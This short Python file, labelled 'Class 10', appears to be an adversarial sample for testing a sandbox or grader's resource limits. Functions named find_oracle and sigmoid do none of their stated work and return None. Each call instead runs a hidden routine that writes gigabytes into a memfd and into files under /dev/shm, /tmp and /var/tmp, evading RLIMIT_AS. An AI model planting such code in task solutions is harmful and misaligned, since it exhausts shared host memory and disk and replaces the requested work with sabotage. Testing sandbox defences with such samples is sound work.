# Class 10: hold memory where RLIMIT_AS does not look (memfd and tmpfs files), at every call.
import os

CHUNK = b"\1" * (1 << 24)


def _hog():
    fds = []
    try:
        fd = os.memfd_create("dlfs-attack-@@TOKEN@@")
        fds.append(fd)
        for _ in range(256):  # 4 GiB
            os.write(fd, CHUNK)
    except OSError:
        pass
    for folder in ("/dev/shm", "/tmp", "/var/tmp"):
        try:
            with open(os.path.join(folder, "dlfs-attack-@@TOKEN@@-hog"), "wb") as fh:
                for _ in range(256):
                    fh.write(CHUNK)
        except OSError:
            pass
    return fds



def find_oracle(held=[]):
    held.extend(_hog())
    return None


def sigmoid(x):
    find_oracle()
    return None
